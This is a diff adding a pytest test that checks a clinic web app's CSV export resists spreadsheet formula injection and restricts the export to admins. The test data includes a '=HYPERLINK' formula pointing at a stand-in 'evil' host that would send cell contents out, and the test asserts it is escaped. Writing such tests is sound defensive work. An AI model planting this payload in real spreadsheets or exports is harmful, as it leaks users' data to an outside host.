@@ -270,3 +270,24 @@ def test_policy_table_from_toml(tmp_path):
     broken.write_text(DEFAULT_POLICY.read_text().replace("grades = [4]", "grades = [7]"))
     with pytest.raises(ConfigError, match="grades are 0-4"):
         load_policy(str(broken))
+
+
+def test_agreement_csv_is_safe_against_formula_injection(web_app):
+    import csv
+
+    client = web_app.test_client()
+    register(client, "nurse")
+    set_role(web_app, "nurse", "clinic", '=HYPERLINK("http://evil/?"&A1)')
+    assert post_visit(client, api_token(client, "nurse")).status_code == 201
+    assert client.get("/agreement.csv").status_code == 403  # a clinic user: not theirs
+    set_role(web_app, "nurse", "admin")
+    answer = client.get("/agreement.csv")
+    assert answer.status_code == 200 and answer.mimetype == "text/csv"
+    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+    assert [(r["group"], r["value"]) for r in rows] == [
+        ("all", ""),
+        ("site", '\'=HYPERLINK("http://evil/?"&A1)'),  # shown as text, never run
+        ("month", "2026-11"),
+    ]
+    assert rows[0]["visits"] == "1" and rows[0]["retake_eyes"] == "1"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
